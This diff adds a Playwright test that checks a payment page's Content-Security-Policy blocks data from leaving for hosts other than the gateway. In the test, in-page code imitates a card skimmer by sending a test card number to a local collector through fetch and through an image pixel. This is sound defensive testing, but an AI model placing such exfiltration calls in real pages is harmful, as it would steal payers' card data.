@@ -216,6 +216,39 @@ test('the payment page fits a 375 px phone', async ({ browser }) => {
   await payer.context().close();
 });
 
+test('the payment page may send what a payer types to the gateway only', async ({ browser }) => {
+  const link = await createLink({ title: 'Policy check' });
+  const payer = await payerPage(browser);
+  // Another host that would take the data (an image, or a fetch it allows): nothing must reach it.
+  const reached: string[] = [];
+  await payer.context().route('http://127.0.0.1:3197/**', (route) => {
+    reached.push(route.request().url());
+    return route.fulfill({ contentType: 'image/png', headers: { 'access-control-allow-origin': '*' }, body: PNG });
+  });
+  const response = await payer.goto(link.url);
+  const policy = (await response?.headerValue('content-security-policy')) ?? '';
+  expect(policy).toContain(`connect-src 'self' ${gatewayUrl}`);
+  expect(policy).toContain("frame-ancestors 'none'");
+  await expect(payer.getByRole('button', { name: 'Pay' })).toBeVisible();
+  // A script that got into the page could neither fetch nor load an image from another host.
+  const leaks = await payer.evaluate(async () => {
+    const fetched = await fetch('http://127.0.0.1:3197/collect?card=4242').then(
+      () => 'sent',
+      () => 'blocked',
+    );
+    const image = await new Promise<string>((resolve) => {
+      const img = new Image();
+      img.onload = () => resolve('sent');
+      img.onerror = () => resolve('blocked');
+      img.src = 'http://127.0.0.1:3197/pixel.gif?card=4242';
+    });
+    return { fetched, image };
+  });
+  expect(leaks).toEqual({ fetched: 'blocked', image: 'blocked' });
+  expect(reached).toEqual([]);
+  await payer.context().close();
+});
+
 test('an unknown payment link says so', async ({ browser }) => {
   const payer = await payerPage(browser);
   const response = await payer.goto('/pay/0123456789abcdef0123456789abcdef');
